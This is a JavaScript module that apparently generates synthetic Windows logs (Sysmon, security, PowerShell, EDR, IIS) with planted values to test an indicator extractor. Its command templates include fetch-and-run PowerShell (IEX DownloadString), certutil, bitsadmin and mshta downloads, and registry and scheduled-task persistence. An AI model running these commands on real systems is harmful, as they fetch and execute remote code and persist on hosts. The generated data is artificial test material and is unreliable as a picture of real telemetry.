// Windows: Sysmon events as JSON, XML and text, the security log as CSV, command
// lines, and what endpoint agents write.
import { isoTime } from "./network.mjs";
import { trap } from "./traps.mjs";
import * as make from "./values.mjs";

const SYSTEM = ["C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "C:\\Windows\\System32\\services.exe"];
const guid = (c) => `{${trap(c, "uuid")}}`;

/** A path: of the system, plain, or with blanks in it. */
const path = (c) => c.random.weighted([[c.pick(SYSTEM), 4], [undefined, 5], [make.windowsPathSpaced(c.random), 1]]) ?? c.value("windows_path");
const plantPath = (c) => c.plant("windows_path", path(c));
const jsonPath = (c) => c.json("windows_path", path(c));
const plantKey = (c) => (c.random.chance(0.25) ? c.plant("registry_key", make.registryKeySpaced(c.random), undefined, "with blanks") : c.one("registry_key"));

/** Sysmon's field of hashes; a hash of imports is no hash of a file, but some would count it. */
const hashes = (c) => c.pick([
  () => `SHA1=${c.one("sha1_hash", 0.3).toUpperCase()},MD5=${c.one("md5_hash", 0.3).toUpperCase()},SHA256=${c.one("sha256_hash", 0.2).toUpperCase()},IMPHASH=${c.either("md5_hash", make.md5(c.random)).toUpperCase()}`,
  () => `SHA256=${c.one("sha256_hash", 0.2).toUpperCase()}`, () => `MD5=${c.one("md5_hash", 0.3).toUpperCase()},SHA256=${c.one("sha256_hash", 0.2).toUpperCase()}`,
])();

const COMMANDS = [
  (c) => `powershell.exe -nop -w hidden -enc ${c.trap("base64", Buffer.from(`IEX ${c.name()} ${c.random.hex(40)}`, "utf16le").toString("base64"))}`,
  (c) => `powershell -c IEX (New-Object ${c.trap("namespace", "Net.WebClient")}).DownloadString('${c.one("url", 0.8)}')`,
  (c) => `powershell -Command [${c.trap("namespace", "System.Text.Encoding")}]::UTF8.GetString([${c.trap("namespace", "System.Convert")}]::FromBase64String('${trap(c, "base64")}'))`,
  (c) => `Invoke-WebRequest -Uri ${c.one("url", 0.8)} -OutFile ${c.one("windows_path", 0.5)}`,
  (c) => `certutil -urlcache -split -f ${c.one("url", 0.8)} ${c.one("windows_path", 0.5)}`,
  (c) => `reg add ${c.one("registry_key")} /v ${c.word()} /t REG_SZ /d ${c.one("windows_path", 0.5)} /f`,
  (c) => `schtasks /create /tn ${c.word()} /tr ${c.one("windows_path", 0.5)} /sc daily /st ${c.trap("clock", `${c.int(10, 23)}:${c.int(10, 59)}:00`)}`,
  (c) => `rundll32.exe ${c.one("windows_path", 0.5)},${c.word()} ${trap(c, "switch")}`,
  (c) => `cmd.exe /c ping -n ${c.int(1, 9)} ${c.one("ipv4")} & del ${trap(c, "file")}`,
  (c) => `bitsadmin /transfer ${c.word()} ${c.one("url", 0.8)} ${c.one("windows_path", 0.5)}`,
  (c) => `msiexec ${trap(c, "switch")} /i ${trap(c, "file")} ${trap(c, "switch")}`,
  (c) => `python ${trap(c, "file")} --out ${trap(c, "file")} --level ${trap(c, "number")}`,
  (c) => `net use Z: ${c.plant("windows_path", `\\\\${c.word()}${c.int(1, 9)}\\${c.word()}$`)} /user:${trap(c, "account")}`,
  (c) => `wmic process call create ${trap(c, "file")} -k ${c.word()} ${trap(c, "switch")}`,
  (c) => `mshta vbscript:Close(Execute("GetObject(""script:${c.one("url", 0.8)}"")"))`,
];
const command = (c) => c.pick(COMMANDS)(c);
/** A command line in JSON: what it plants is spelt with two backslashes. */
const jsonCommand = (c) => JSON.stringify(command(c)).slice(1, -1);

const product = (c) => `"FileVersion":"${trap(c, "version")}","Description":"${c.word()} ${c.word()}","OriginalFileName":"${trap(c, "file")}"`;
const sysmonProcess = (c) => `{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","UtcTime":"2026-03-${c.int(10, 28)} ${trap(c, "clock")}","ProcessGuid":"${guid(c)}","ProcessId":${c.int(100, 9000)},"Image":"${jsonPath(c)}",${product(c)},"CommandLine":"${jsonCommand(c)}","CurrentDirectory":"${c.json("windows_path", "C:\\Windows\\system32").concat("\\\\")}","User":"${c.trap("account", `CORP\\${c.name()}`).replace("\\", "\\\\")}","LogonGuid":"${guid(c)}","Hashes":"${hashes(c)}","ParentImage":"${jsonPath(c)}"}`;
const sysmonNetwork = (c) => `{"EventID":3,"UtcTime":"2026-03-${c.int(10, 28)} ${trap(c, "clock")}","Image":"${jsonPath(c)}","Protocol":"tcp","SourceIp":"${c.one("ipv4")}","SourceHostname":"WS-${c.int(100, 999)}","SourcePort":${c.int(1025, 65000)},"DestinationIp":"${c.random.chance(0.2) ? c.one("ipv6", 0.3) : c.one("ipv4")}","DestinationHostname":"${c.one("dns")}","DestinationPort":443}`;
const sysmonRegistry = (c) => {
  const key = c.random.chance(0.3) ? make.registryKeySpaced(c.random) : c.value("registry_key");
  return `{"EventID":13,"EventType":"SetValue","ProcessGuid":"${guid(c)}","Image":"${jsonPath(c)}","TargetObject":"${c.json("registry_key", key)}","Details":"DWORD (0x000000${c.random.hex(2)})","RuleName":"${trap(c, "number of a standard")}"}`;
};
const sysmonXml = (c) => `<Event xmlns='${c.plant("url", "http://schemas.microsoft.com/win/2004/08/events/event")}'><System><Provider Name='Microsoft-Windows-Sysmon' Guid='${guid(c)}'/><EventID>11</EventID><TimeCreated SystemTime='${isoTime(c)}'/><Computer>WS-${c.int(100, 999)}</Computer></System><EventData><Data Name='Image'>${plantPath(c)}</Data><Data Name='TargetFilename'>${plantPath(c)}</Data><Data Name='Hashes'>${hashes(c)}</Data></EventData></Event>`;
const registryXml = (c) => `<EventData><Data Name='EventType'>SetValue</Data><Data Name='Image'>${plantPath(c)}</Data><Data Name='TargetObject'>${plantKey(c)}</Data><Data Name='Details'>${plantPath(c)}</Data></EventData>`;
const field = (text) => (/[",\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text);
const security = (c) => [trap(c, "uuid"), trap(c, "account"), 4688, `2026-03-${c.int(10, 28)} ${trap(c, "clock")}`, `WS-${c.int(100, 999)}`, `S-1-5-21-${c.int(1e8, 4e9)}-${c.int(1e8, 4e9)}-${c.int(1000, 9999)}`, `0x${c.random.hex(5)}`, `0x${c.random.hex(4)}`, plantPath(c), "%%1936", command(c), plantPath(c)].map(field).join(",");
const logon = (c) => [isoTime(c), 4624, trap(c, "account"), c.int(2, 10), "Kerberos", "-", c.random.chance(0.15) ? c.one("ipv6", 0.3) : c.one("ipv4"), c.int(1025, 65000), trap(c, "uuid")].join(",");
const powershellLog = (c) => `${isoTime(c)} Microsoft-Windows-PowerShell 4104 ScriptBlockText=${c.pick([
  () => `$c = New-Object ${trap(c, "namespace")}; $c.Headers.Add("User-Agent","${c.word()}"); $c.DownloadFile("${c.one("url", 0.8)}","${c.one("windows_path", 0.5)}")`,
  () => `[${trap(c, "namespace")}]::${c.word()}($env:TEMP + "\\${trap(c, "file")}"); $${trap(c, "code")} = $${c.word()}.Length`,
  () => `Get-ItemProperty -Path '${plantKey(c)}' | Select-Object ${c.word()}`,
  () => `$s = ${c.trap("code", "$_.name")} -match '${trap(c, "escape")}'; Add-Type -AssemblyName ${trap(c, "namespace")}`,
  () => `[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12; $h = @{ id = "${trap(c, "uuid")}" }`,
])()}`;
const edr = (c) => `{"@timestamp":"${isoTime(c)}","${trap(c, "field")}":"${c.word()}","${trap(c, "field")}":"${trap(c, "uuid")}","host.name":"ws-${c.int(100, 999)}","host.ip":["${c.one("ipv4")}","${c.one("ipv6", 0.3)}"],"process.executable":"${jsonPath(c)}","process.command_line":"${jsonCommand(c)}","process.hash.sha256":"${c.one("sha256_hash", 0.2)}","file.path":"${jsonPath(c)}","file.size":${c.int(1, 9e6)},"url.full":"${c.one("url")}","dns.question.name":"${c.one("dns")}","user.name":"${c.name()}","file.name":"${trap(c, "file")}","event.hash":"${trap(c, "no hash")}"}`;
const edrCloud = (c) => `{"time":"${isoTime(c)}","category":"DeviceFileEvents","properties":{"FileName":"${trap(c, "file")}","FolderPath":"${jsonPath(c)}","SHA1":"${c.one("sha1_hash", 0.3)}","SHA256":"${c.one("sha256_hash", 0.2)}","MD5":"${c.one("md5_hash", 0.3)}","DeviceId":"${c.trap("no hash", c.random.hex(39))}","RemoteUrl":"${c.one("dns")}","RemoteIP":"${c.one("ipv4")}","ReportId":${c.int(1, 99999)},"AdditionalFields":"{\\"note\\":\\"${c.word()} ${c.word()}\\"}"}}`;
const callTrace = (c) => `{"EventID":10,"SourceImage":"${jsonPath(c)}","TargetImage":"${c.json("windows_path", "C:\\Windows\\System32\\lsass.exe")}","GrantedAccess":"0x1${c.random.hex(3)}","CallTrace":"${c.json("windows_path", "C:\\Windows\\SYSTEM32\\ntdll.dll")}+${c.random.hex(5)}|${c.json("windows_path", "C:\\Windows\\System32\\KERNELBASE.dll")}+${c.random.hex(5)}|UNKNOWN(${c.random.hex(16).toUpperCase()})"}`;
const service = (c) => `${isoTime(c)} Service Control Manager 7045 Service Name: ${c.word()} Service File Name: ${c.one("windows_path", 0.4)} Service Type: user mode Account: ${trap(c, "account")}`;
const defender = (c) => `${isoTime(c)} Windows Defender 1116 Threat=Trojan:Win32/${c.name()}.${c.random.hex(2).toUpperCase()}!ml Path=file:_${c.one("windows_path", 0.4)} Engine=${c.trap("version", `AM: 1.1.${c.int(20000, 26000)}.${c.int(1, 9)}`)} Signature=${c.trap("version", `AV: 1.${c.int(300, 420)}.${c.int(1, 2500)}.0`)}`;
const iis = (c) => `2026-03-${c.int(10, 28)} ${trap(c, "clock")} ${c.one("ipv4", 0.001)} ${c.pick(["GET", "POST"])} ${c.either("linux_path", `/${c.word()}/${c.word()}.aspx`)} id=${c.int(1, 999)} 443 - ${c.one("ipv4")} Mozilla/5.0+(Windows+NT+10.0)+${c.trap("version", `Chrome/${c.int(80, 140)}.0.0.0`)}+Safari/537.36 ${c.one("url")} 200 0 0 ${c.int(1, 900)}`;

export const LINES = [
  [40, sysmonProcess], [30, sysmonNetwork], [26, sysmonRegistry], [20, sysmonXml], [10, registryXml], [36, security], [20, logon],
  [18, powershellLog], [30, edr], [20, edrCloud], [8, callTrace], [6, service], [4, defender], [25, iis],
];
